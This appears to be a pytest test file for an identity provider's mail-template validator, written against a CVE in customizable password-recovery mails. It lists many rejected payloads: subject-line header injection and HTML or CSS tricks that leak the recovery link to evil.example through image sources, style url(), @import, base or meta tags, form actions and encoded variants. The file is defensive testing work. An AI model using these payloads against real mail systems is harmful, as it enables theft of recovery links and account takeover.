"""The language of mails has placeholders only, and every mistake is found when a text is saved."""

import pytest
from django.core.exceptions import ValidationError

from idp.outbox import mail
from idp.outbox.models import MailTemplate
from idp.outbox.placeholders import BRANDING_VARIABLES, MailContent, shipped_templates
from idp.tenancy.models import Tenant


def test_what_is_shipped_is_whole() -> None:
    """Every mail has a subject, and a text and HTML that say the same, and follows its own rules."""
    assert "recovery" in shipped_templates()
    for template in shipped_templates().values():
        assert template.problems(template.variables) == {}
        said = {
            part: MailContent("", "", getattr(template, part)).variables - BRANDING_VARIABLES
            for part in ("text", "html")
        }
        assert said["text"] == said["html"]
        assert "tenant" in MailContent(template.subject, "").variables
        assert not set("<>") & set(template.subject + template.text)


@pytest.mark.parametrize(
    ("part", "wording", "said"),
    [
        ("text", "{{ link }} {{ nam }}", "Unknown variable nam. Did you mean name?"),
        (
            "html",
            "{{ password }}",
            "Unknown variable password. Available: accent, accent_text, link, minutes, name, tenant.",
        ),
        ("text", "{{ link }} {{ name|upper }}", "no filters"),
        ("text", "{{ link }} {{ name.password }}", "no tags, no filters"),
        ("text", "{{ link }} {{ name", "is supported"),
        ("html", "{% include 'pages/base.html' %}", "no tags"),
        ("html", "{% autoescape off %}{{ name }}{% endautoescape %}", "no tags"),
        ("subject", "{% debug %}", "no tags"),
        ("subject", "Hello\r\nBcc: evaluator@evil.test", "single line"),
        ("subject", "Hello\x00", "single line"),
        ("subject", "", "blank"),
        ("subject", "x" * 201, "200"),
        ("text", "", "blank"),
    ],
)
def test_what_is_refused(acme: Tenant, part: str, wording: str, said: str) -> None:
    """CVE-2026-25227: an administrator who customizes a mail can execute nothing.

    The error names the field in which it stands, and nothing is saved.
    """
    with pytest.raises(ValidationError) as refused:
        mail.save_template("recovery", **{"subject": "S", "text": "T {{ link }}", part: wording})
    assert list(refused.value.message_dict) == [part]
    assert said in " ".join(refused.value.message_dict[part])
    assert not MailTemplate.objects.exists()


def test_there_is_no_such_mail(acme: Tenant) -> None:
    """Only the mails that the product sends can be customized."""
    with pytest.raises(ValidationError, match="Available: recovery"):
        mail.save_template("welcome", subject="S", text="T")


def test_what_is_said_is_not_read_again() -> None:
    """A value that looks like a placeholder stays as it is."""
    filled = MailContent("{{ name }}", "{{name}} {{  link  }}", "<b>{{ name }}</b>").render(
        {"name": "{{ link }}&", "link": "L"}
    )
    assert filled == MailContent("{{ link }}&", "{{ link }}& L", "<b>{{ link }}&amp;</b>")


def test_braces_of_style_sheets_mean_nothing() -> None:
    """Plain CSS stays possible."""
    assert MailContent("S", "T", "<style>#a{color:red}@media{#b{x:y}}</style>").problems(set()) == {}


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example/?u={{ link }}">',
        "<img src=https://evil.example/?u={{link}}>",
        '<img src="//evil.example/x.png">',
        '<img srcset="https://evil.example/x 2x" src="cid:mark">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<table background="https://evil.example/{{ link }}"><tr><td>x</td></tr></table>',
        '<video poster="https://evil.example/{{ link }}"></video>',
        '<p style="background:url(https://evil.example/{{ link }})">x</p>',
        '<p style="background:u&#114;l(https://evil.example/)">x</p>',
        '<p style="background:\\75rl(https://evil.example/)">x</p>',
        '<style>@import "https://evil.example/{{ link }}";</style>',
        '<style>p{background:image-set("https://evil.example/x" 1x)}</style>',
        '<link rel="stylesheet" href="https://evil.example/{{ link }}">',
        '<link rel="prefetch" href="{{ link }}">',
        '<base href="https://evil.example/"><a href="{{ link }}">x</a>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<meta name="x" content="{{ link }}">',
        '<a href="https://evil.example/?u={{ link }}">x</a>',
        '<a href="{{ link }}&amp;x=1">x</a>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="https://evil.example/{{ name }}">x</a>',
        '<a href="{{ link }}" ping="https://evil.example/">x</a>',
        '<a href="https://evil.example/" href="{{ link }}">x</a>',
        '<a href="https://evil.example/" title="{{ link }}">x</a>',
        '<form action="https://evil.example/"><input name="u" value="{{ link }}"></form>',
        '<iframe src="{{ link }}"></iframe>',
        '<svg><image href="{{ link }}"/></svg>',
        "<script>{{ link }}</script>",
        "<!-- {{ link }} -->",
        '<!--[if mso]><img src="https://evil.example/"><![endif]-->',
        '<![CDATA[ <img src="{{ link }}"> ]]>',
        "<?php {{ link }} ?>",
        '<p title="{{ link }}">x</p>',
        "<p title={{ name }}>x</p>",
        "<p>https://evil.example/?u={{ link }}</p>",
        "<p>https://evil.example/?u=&nbsp;{{ link }}</p>",
        "<p>https://evil.example/?u=&#x3000;{{ link }}</p>",
        "<p>https://evil.example/?u=<b>{{ link }}</b></p>",
        "<p>https://evil.example/?u=&#8203;{{ link }}</p>",
        "<p>https://evil.example/?({{ link }})</p>",
        '<a href="{{ link }}',
        "<p>1 < 2 {{ link }}</p>",
    ],
)
def test_a_link_stands_in_no_address_but_its_own(acme: Tenant, html: str) -> None:
    """An administrator who customizes the mail cannot have the link sent to them.

    No picture, no style and no URL contains the link when the mail is opened.
    """
    with pytest.raises(ValidationError) as refused:
        mail.save_template("recovery", subject="S", text="T {{ link }}", html=html)
    assert list(refused.value.message_dict) == ["html"]


@pytest.mark.parametrize(
    "html",
    [
        "",
        '<p><a href="{{ link }}" style="color:{{ accent }}">choose</a> or copy <b>{{ link }}</b></p>',
        "<p>Copy ({{ link }}), or ask.<br>{{link}}</p>",
        (
            '<p title="{{ name }}">&lt;{{ name }}&gt; <a href="https://acme.test/#top">help</a> <a '
            'href="mailto:help@acme.test">mail</a></p>'
        ),
        '<img src="data:image/png;base64,AAAA" alt="{{ tenant }}"><img src="cid:mark@acme.test" alt="">',
        "<style>body{background-image:none;color:{{ accent_text }}}</style>",
    ],
)
def test_plain_markup_is_welcome(acme: Tenant, html: str) -> None:
    """Ordinary HTML is accepted."""
    assert mail.save_template("recovery", subject="S", text="T {{ link }}", html=html)


@pytest.mark.parametrize(
    ("part", "wording"),
    [
        ("text", "Nothing to press here."),
        ("text", "https://evil.example/?u={{ link }}"),
        ("text", "https://evil.example/?({{ link }})"),
        ("text", "https://evil.example/?u=\u00a0{{ link }}"),
        ("text", "https://evil.example/?u=\u3000{{ link }}"),
        ("text", "https://evil.example/?u=\u2028{{ link }}"),
        ("text", "https://evil.example/?u=\u00a0({{ link }})"),
        ("subject", "Here: {{ link }}"),
    ],
)
def test_the_text_says_the_link_by_itself(acme: Tenant, part: str, wording: str) -> None:
    """Mail programs turn text into links, so the rule holds for text, too.

    A subject is shown to everyone who sees the list.
    """
    with pytest.raises(ValidationError) as refused:
        mail.save_template("recovery", **{"subject": "S", "text": "T {{ link }}", part: wording})
    assert list(refused.value.message_dict) == [part]
